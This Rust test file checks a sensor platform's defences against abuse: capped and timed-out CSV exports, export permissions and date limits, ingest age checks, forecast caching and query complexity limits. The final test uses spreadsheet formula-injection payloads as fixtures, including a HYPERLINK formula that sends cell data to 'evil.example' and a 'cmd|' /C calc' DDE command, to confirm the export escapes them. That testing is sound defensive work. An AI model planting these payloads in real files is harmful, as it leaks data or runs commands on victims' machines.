//! Exports and other heavy sensor reads under abuse (security review, issue 20): stalled CSV
//! downloads do not take the database pool and are capped per user and per replica; device
//! keys do not export; exports cover at most 31 days; forecasts are fitted once per station,
//! parameter and hour and cost what they cost in complexity; ingest refuses readings dated
//! long ago unless an admin back-fills; CSV cells cannot open as spreadsheet formulas.

use std::time::{Duration, Instant};

use chrono::{DateTime, Duration as Span, DurationRound, Utc};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::common::{
    ServerOptions, TestServer, assert_body_snapshot, assert_code, assert_no_errors,
    sensors::{Station, ingest, reading, station},
};

const INGEST: &str = "mutation($id: ID!, $r: [ReadingInput!]!, $b: Boolean) { ingestReadings(stationId: $id, readings: $r, backfill: $b) { accepted duplicates rejected { index reason } } }";
const FORECAST: &str = "query($id: ID!, $h: Int!) { station(id: $id) { forecast(parameter: PM25, horizonHours: $h) { method points { value } } } }";

fn hour() -> DateTime<Utc> {
    Utc::now().duration_trunc(Span::hours(1)).expect("trunc")
}

fn urlencode(value: &str) -> String {
    value.replace(':', "%3A").replace('+', "%2B")
}

fn export_path(s: &Station, from: DateTime<Utc>, to: Option<DateTime<Utc>>) -> String {
    let mut path = format!(
        "/export/readings.csv?stationId={}&from={}",
        s.id,
        urlencode(&from.to_rfc3339())
    );
    if let Some(to) = to {
        path.push_str(&format!("&to={}", urlencode(&to.to_rfc3339())));
    }
    path
}

/// Opens an export on a raw socket with a small receive buffer, reads only the status code
/// and leaves the rest of the response unread.
async fn stalled_export(
    server: &TestServer,
    path: &str,
    token: &str,
) -> (u16, tokio::net::TcpStream) {
    let socket = tokio::net::TcpSocket::new_v4().expect("socket");
    socket.set_recv_buffer_size(4_096).expect("rcvbuf");
    let mut stream = socket.connect(server.addr).await.expect("connect");
    let request =
        format!("GET {path} HTTP/1.1\r\nhost: agora\r\nauthorization: Bearer {token}\r\n\r\n");
    stream
        .write_all(request.as_bytes())
        .await
        .expect("request sent");
    let mut status = [0u8; 12];
    stream.read_exact(&mut status).await.expect("status line");
    let status = std::str::from_utf8(&status[9..12])
        .expect("ascii")
        .parse()
        .expect("status code");
    (status, stream)
}

#[tokio::test]
async fn stalled_exports_leave_the_pool_to_graphql_and_beyond_the_caps_get_429() {
    let server = TestServer::start_with(ServerOptions {
        args: ["--export-chunk-rows", "500", "--export-write-timeout", "3s"]
            .map(str::to_owned)
            .to_vec(),
        ..Default::default()
    })
    .await;
    let admin = server.register_token("admin@example.org").await;
    let s = station(&server, &admin, "Big", 0.5, 32.5).await;
    // 80,000 rows, about 9 MB of CSV: more than the socket buffers (up to 4 MB each way) and
    // hyper's own, so a client that reads nothing stalls the export.
    let start = hour() - Span::days(7);
    let parameters = [
        ("PM25", 12.0),
        ("PM10", 20.0),
        ("O3", 30.0),
        ("NO2", 15.0),
        ("SO2", 4.0),
        ("CO", 0.4),
        ("TEMPERATURE", 21.0),
        ("HUMIDITY", 60.0),
    ];
    for (parameter, base) in parameters {
        for half in 0..2 {
            let batch = (half * 5_000..(half + 1) * 5_000)
                .map(|i| {
                    reading(
                        parameter,
                        base + f64::from(i % 7),
                        start + Span::minutes(i.into()),
                    )
                })
                .collect();
            assert_eq!(ingest(&server, &s, batch).await["accepted"], 5_000);
        }
    }
    let path = export_path(&s, start, None);
    let mut users = vec![admin.clone()];
    for n in 1..5 {
        users.push(server.register_token(&format!("user{n}@example.org")).await);
    }

    // 50 downloads that never read: 2 per user and 8 on the replica are let in, the rest
    // are refused at once.
    let mut open = Vec::new();
    let mut refused = 0;
    for attempt in 0..50 {
        let (status, socket) = stalled_export(&server, &path, &users[attempt % users.len()]).await;
        match status {
            200 => open.push(socket),
            429 => refused += 1,
            other => panic!("export answered {other}"),
        }
    }
    assert_eq!((open.len(), refused), (8, 42));
    assert_eq!(server.state.sensors.exports.running(), 8);

    // The pool (5 connections) is free for everyone else while they stall.
    let series = "query($id: ID!, $from: DateTime!, $to: DateTime!) { station(id: $id) { name series(parameter: PM25, bucket: HOUR, from: $from, to: $to) { avg } } }";
    let mut slowest = Duration::ZERO;
    for _ in 0..10 {
        let started = Instant::now();
        let body = server
            .gql(
                series,
                json!({ "id": s.id, "from": start.to_rfc3339(), "to": (start + Span::days(3)).to_rfc3339() }),
            )
            .await;
        assert_no_errors(&body);
        let ready = server
            .http
            .get(server.url("/readyz"))
            .send()
            .await
            .expect("readyz");
        assert_eq!(ready.status(), 200);
        slowest = slowest.max(started.elapsed());
    }
    println!("GraphQL and /readyz beside 8 stalled exports: slowest {slowest:?}");
    assert!(
        slowest < Duration::from_secs(1),
        "slowest query {slowest:?}"
    );
    assert_eq!(
        server.state.sensors.exports.running(),
        8,
        "the exports are stalled, not finished"
    );

    // The 51st, by a user who has none running, is refused by the replica's cap.
    let response = server
        .http
        .get(server.url(&path))
        .bearer_auth(&users[4])
        .send()
        .await
        .expect("sent");
    assert_eq!(response.status(), 429);
    assert_eq!(response.headers()["retry-after"], "3");
    let body: Value = response.json().await.expect("json");
    assert_code!(body, "RATE_LIMITED");

    // A client that takes nothing for the write timeout (3 s) is dropped and its slot comes
    // back.
    let deadline = Instant::now() + Duration::from_secs(20);
    while server.state.sensors.exports.running() > 0 {
        assert!(
            Instant::now() < deadline,
            "stalled exports were never dropped"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let metrics = server.metrics().await;
    let dropped = metrics
        .lines()
        .find_map(|l| l.strip_prefix("agora_send_timeouts_total "))
        .and_then(|v| v.trim().parse::<f64>().ok())
        .unwrap_or(0.0);
    assert!(
        dropped >= 8.0,
        "{dropped} connections dropped by the send timeout"
    );
    // A dropped download ends broken, never as a short file that looks complete.
    let mut stalled = open.pop().expect("a stalled socket");
    let mut rest = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(10), stalled.read_to_end(&mut rest))
        .await
        .expect("the server closed the connection");
    if read.is_ok() {
        assert!(
            !rest.ends_with(b"0\r\n\r\n"),
            "the chunked body was terminated"
        );
    }
    drop(open);

    // And a client that reads gets every row.
    let text = server
        .http
        .get(server.url(&path))
        .bearer_auth(&admin)
        .send()
        .await
        .expect("sent")
        .text()
        .await
        .expect("body");
    assert_eq!(text.lines().count(), 80_001);
    let mut times: Vec<&str> = text
        .lines()
        .skip(1)
        .map(|l| l.split(',').nth(3).expect("time"))
        .collect();
    let sorted = {
        let mut sorted = times.clone();
        sorted.sort();
        sorted
    };
    assert_eq!(times, sorted, "rows come oldest first across parameters");
    times.dedup();
    assert_eq!(times.len(), 10_000);
    server.shutdown().await;
}

#[tokio::test]
async fn a_device_key_exports_nothing_and_a_user_exports_at_most_31_days() {
    let server = TestServer::start().await;
    let admin = server.register_token("admin@example.org").await;
    let own = station(&server, &admin, "Own", 0.5, 32.5).await;
    let other = station(&server, &admin, "Other", 0.5, 32.5).await;
    let at = hour() - Span::hours(2);
    ingest(&server, &own, vec![reading("TEMPERATURE", -3.5, at)]).await;
    let from = at - Span::days(1);
    for target in [&own, &other] {
        let response = server
            .http
            .get(server.url(&export_path(target, from, None)))
            .header("x-api-key", own.key.as_str())
            .send()
            .await
            .expect("sent");
        assert_eq!(response.status(), 403);
        let body: Value = response.json().await.expect("json");
        assert_code!(body, "FORBIDDEN");
    }
    let to = at + Span::hours(1);
    let too_long = server
        .http
        .get(server.url(&export_path(
            &own,
            to - Span::days(31) - Span::seconds(1),
            Some(to),
        )))
        .bearer_auth(&admin)
        .send()
        .await
        .expect("sent");
    assert_eq!(too_long.status(), 400);
    let body: Value = too_long.json().await.expect("json");
    assert_code!(body, "BAD_USER_INPUT");
    assert_body_snapshot!(
        "a_device_key_exports_nothing_and_a_user_exports_at_most_31_days-body",
        body
    );
    let message = body["errors"][0]["message"].as_str().expect("message");
    assert!(message.contains("at most 31 days"), "{message}");
    let month = server
        .http
        .get(server.url(&export_path(&own, to - Span::days(31), Some(to))))
        .bearer_auth(&admin)
        .send()
        .await
        .expect("sent");
    assert_eq!(month.status(), 200);
    let text = month.text().await.expect("body");
    // A negative number is a number, not a formula: it is exported as it is.
    assert!(
        text.lines()
            .nth(1)
            .expect("row")
            .contains(",TEMPERATURE,°C,"),
        "{text}"
    );
    assert!(text.contains(",-3.5,"), "{text}");
    server.shutdown().await;
}

#[tokio::test]
async fn readings_older_than_the_max_age_are_refused_unless_an_admin_backfills() {
    let server = TestServer::start().await;
    let admin = server.register_token("admin@example.org").await;
    let s = station(&server, &admin, "Clock", 0.5, 32.5).await;
    let now = hour();
    let batch = vec![
        reading("PM25", 10.0, now - Span::days(31)),
        json!({ "parameter": "PM25", "value": 11.0, "observedAt": "0000-01-01T00:00:00Z" }),
        reading("PM25", 12.0, now - Span::days(1)),
        reading("PM25", 13.0, Utc::now() + Span::hours(1)),
    ];
    let report = ingest(&server, &s, batch).await;
    assert_eq!(report["accepted"], 1, "{report}");
    let rejected = report["rejected"].as_array().expect("rejected");
    let indexes: Vec<u64> = rejected
        .iter()
        .map(|r| r["index"].as_u64().expect("i"))
        .collect();
    assert_eq!(indexes, [0, 1, 3]);
    for r in &rejected[..2] {
        let reason = r["reason"].as_str().expect("reason");
        assert!(reason.contains("more than 30 days old"), "{reason}");
        assert!(reason.contains("backfill"), "{reason}");
    }
    assert!(
        rejected[2]["reason"]
            .as_str()
            .expect("reason")
            .contains("future")
    );

    // The device key may not back-fill, though an admin created it.
    let old = vec![reading("PM25", 10.0, now - Span::days(31))];
    let by_key = server
        .gql_with(
            INGEST,
            json!({ "id": s.id, "r": old, "b": true }),
            &[("x-api-key", s.key.as_str())],
        )
        .await;
    assert_code!(by_key, "FORBIDDEN");
    assert_body_snapshot!(
        "readings_older_than_the_max_age_are_refused_unless_an_admin_backfills-by_key",
        by_key
    );
    let by_admin = server
        .gql_as(&admin, INGEST, json!({ "id": s.id, "r": old, "b": true }))
        .await;
    assert_no_errors(&by_admin);
    assert_eq!(by_admin["data"]["ingestReadings"]["accepted"], 1);
    let future = vec![reading("PM25", 10.0, Utc::now() + Span::hours(1))];
    let still_future = server
        .gql_as(
            &admin,
            INGEST,
            json!({ "id": s.id, "r": future, "b": true }),
        )
        .await;
    assert_eq!(
        still_future["data"]["ingestReadings"]["rejected"][0]["index"],
        0
    );
    server.shutdown().await;
}

/// Six days of hourly PM2.5 (and temperature) before the current hour.
fn history(days: i64) -> Vec<Value> {
    let now = hour();
    let mut batch = Vec::new();
    for h in 1..=24 * days {
        let at = now - Span::hours(h);
        let daily = ((h % 24) as f64 / 24.0 * std::f64::consts::TAU).sin();
        batch.push(reading("PM25", 20.0 + 8.0 * daily + (h % 5) as f64, at));
        batch.push(reading("TEMPERATURE", 18.0 + 6.0 * daily, at));
    }
    batch
}

#[tokio::test]
async fn a_forecast_is_fitted_once_per_hour_and_shared_by_every_horizon() {
    let server = TestServer::start().await;
    let admin = server.register_token("admin@example.org").await;
    let s = station(&server, &admin, "Cached", 0.5, 32.5).await;
    ingest(&server, &s, history(6)).await;
    let fits = || server.state.sensors.forecasts.fits();
    let day = server.gql(FORECAST, json!({ "id": s.id, "h": 24 })).await;
    assert_no_errors(&day);
    // The model on the whole history and three backtest origins.
    assert_eq!(fits(), 4);
    let again = server.gql(FORECAST, json!({ "id": s.id, "h": 24 })).await;
    assert_eq!(again, day);
    assert_eq!(fits(), 4, "the same forecast again fits nothing");
    let two_days = server.gql(FORECAST, json!({ "id": s.id, "h": 48 })).await;
    assert_no_errors(&two_days);
    assert_eq!(
        two_days["data"]["station"]["forecast"]["points"]
            .as_array()
            .expect("points")
            .len(),
        48
    );
    // Horizon 48 reuses the whole-history model and two backtest fits; one origin is new.
    assert_eq!(fits(), 5);
    let six = server.gql(FORECAST, json!({ "id": s.id, "h": 6 })).await;
    let points = |body: &Value| {
        body["data"]["station"]["forecast"]["points"]
            .as_array()
            .expect("points")
            .clone()
    };
    assert_eq!(
        points(&six)[..],
        points(&day)[..6],
        "every horizon extrapolates the same fit"
    );
    server.shutdown().await;
}

#[tokio::test]
async fn many_forecasts_in_one_operation_are_refused_and_the_most_allowed_answer_quickly() {
    let server = TestServer::start().await;
    let admin = server.register_token("admin@example.org").await;
    let mut stations = Vec::new();
    for n in 0..6 {
        let s = station(&server, &admin, &format!("Station {n}"), 0.5, 32.5).await;
        // Four weeks of hourly history: the longest a forecast fits on.
        ingest(&server, &s, history(28)).await;
        stations.push(s);
    }
    // Five aliases on each of six stations: 30 forecasts, refused for complexity before any
    // is computed.
    let five = (0..5)
        .map(|i| {
            format!(
                "f{i}: forecast(parameter: PM25, horizonHours: {}) {{ method points {{ value }} }}",
                24 + i
            )
        })
        .collect::<Vec<_>>()
        .join(" ");
    let paged = format!("{{ stations(first: 6) {{ edges {{ node {{ {five} }} }} }} }}");
    let body = server.gql(&paged, json!({})).await;
    assert_code!(body, "LIMIT_EXCEEDED", "{body}");
    assert_eq!(body["errors"][0]["extensions"]["limit"], "complexity");
    assert_eq!(server.state.sensors.forecasts.fits(), 0);

    // The most an anonymous operation may ask, each forecast a different station, parameter
    // or horizon so nothing is shared: 19.
    let query = |count: usize| {
        let mut by_station = vec![Vec::new(); stations.len()];
        for i in 0..count {
            let parameter = if (i / stations.len()) % 2 == 0 {
                "PM25"
            } else {
                "TEMPERATURE"
            };
            by_station[i % stations.len()].push(format!(
                "f{i}: forecast(parameter: {parameter}, horizonHours: {}) {{ method backtestMae points {{ value lower upper }} }}",
                72 - i
            ));
        }
        let fields = by_station
            .iter()
            .zip(&stations)
            .enumerate()
            .map(|(n, (forecasts, s))| {
                format!(
                    "s{n}: station(id: \"{}\") {{ {} }}",
                    s.id,
                    forecasts.join(" ")
                )
            })
            .collect::<Vec<_>>()
            .join(" ");
        format!("{{ {fields} }}")
    };
    let over = server.gql(&query(20), json!({})).await;
    assert_code!(over, "LIMIT_EXCEEDED", "{over}");
    let started = Instant::now();
    let most = server.gql(&query(19), json!({})).await;
    let cold = started.elapsed();
    assert_no_errors(&most);
    let started = Instant::now();
    let repeated = server.gql(&query(19), json!({})).await;
    let warm = started.elapsed();
    assert_eq!(repeated, most);
    println!(
        "19 forecasts, 6 stations, anonymous: {cold:?} cold ({} fits), {warm:?} cached ({} build)",
        server.state.sensors.forecasts.fits(),
        if cfg!(debug_assertions) {
            "debug"
        } else {
            "release"
        }
    );
    assert!(cold < Duration::from_secs(5), "{cold:?}");
    assert!(warm < Duration::from_secs(1), "{warm:?}");

    // 19 horizons of one station and parameter share the whole-history fit but need 57
    // backtest fits, one after another (one entry is fitted by one request at a time).
    let lone = station(&server, &admin, "Lone", 0.5, 32.5).await;
    ingest(&server, &lone, history(28)).await;
    let horizons = (1..=19)
        .map(|h| format!("h{h}: forecast(parameter: PM25, horizonHours: {h}) {{ method backtestMae points {{ value lower upper }} }}"))
        .collect::<Vec<_>>()
        .join(" ");
    let before = server.state.sensors.forecasts.fits();
    let started = Instant::now();
    let body = server
        .gql(
            &format!("{{ station(id: \"{}\") {{ {horizons} }} }}", lone.id),
            json!({}),
        )
        .await;
    let one_station = started.elapsed();
    assert_no_errors(&body);
    assert_eq!(server.state.sensors.forecasts.fits() - before, 58);
    println!("19 horizons of one station, anonymous: {one_station:?} cold (58 fits)");
    assert!(one_station < Duration::from_secs(5), "{one_station:?}");
    server.shutdown().await;
}

const CREATE_TOPIC: &str = "mutation($i: CreateTopicInput!) { createTopic(input: $i) { id path } }";
const IMPORT: &str = "mutation($d: String!) { importQuestions(format: CSV, data: $d) { committed rows { field message } } }";
const EXPORT: &str = "query($f: TransferFormat!) { exportQuestions(format: $f) }";

#[tokio::test]
async fn exported_question_csv_cells_cannot_run_as_formulas_and_import_back_unchanged() {
    let server = TestServer::start().await;
    let tokens = server.role_tokens().await;
    let topic = server
        .gql_as(
            &tokens.admin,
            CREATE_TOPIC,
            json!({ "i": { "name": "Injection" } }),
        )
        .await;
    assert_no_errors(&topic);
    let row = json!([{
        "topic": "injection",
        "prompt": "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click for the answer\")",
        "choices": [
            { "text": "+A1*2", "isCorrect": false },
            { "text": "-1 or less", "isCorrect": true },
            { "text": "@SUM(1;2)", "isCorrect": false },
            { "text": "'=quoted", "isCorrect": false },
            { "text": "-3", "isCorrect": false }
        ],
        "explanation": "-2+3+cmd|' /C calc'!A0",
        "difficulty": 2,
        "tags": ["csv"]
    }]);
    let imported = server
        .gql_as(
            &tokens.admin,
            "mutation($d: String!) { importQuestions(format: JSON, data: $d) { committed } }",
            json!({ "d": row.to_string() }),
        )
        .await;
    assert_eq!(
        imported["data"]["importQuestions"]["committed"], true,
        "{imported}"
    );

    let csv = server
        .gql_as(&tokens.moderator, EXPORT, json!({ "f": "CSV" }))
        .await;
    let text = csv["data"]["exportQuestions"]
        .as_str()
        .expect("csv")
        .to_owned();
    let line = text.lines().nth(1).expect("a row");
    assert!(line.contains(",\"'=HYPERLINK(\"\"http"), "{line}");
    assert!(
        line.contains(",'+A1*2,'-1 or less,'@SUM(1;2),''=quoted,-3,"),
        "{line}"
    );
    assert!(line.contains(",'-2+3+cmd|' /C calc'!A0,"), "{line}");

    // The file imports again as it was exported: the quotes come off.
    let again = server
        .gql_as(&tokens.admin, IMPORT, json!({ "d": text }))
        .await;
    assert_eq!(
        again["data"]["importQuestions"]["committed"], true,
        "{again}"
    );
    let json = server
        .gql_as(&tokens.moderator, EXPORT, json!({ "f": "JSON" }))
        .await;
    let rows: Value = serde_json::from_str(json["data"]["exportQuestions"].as_str().expect("json"))
        .expect("rows");
    let rows = rows.as_array().expect("rows");
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0], rows[1]);
    assert_eq!(rows[0]["prompt"], row[0]["prompt"]);
    assert_eq!(rows[0]["choices"], row[0]["choices"]);
    assert_eq!(rows[0]["explanation"], row[0]["explanation"]);
    server.shutdown().await;
}
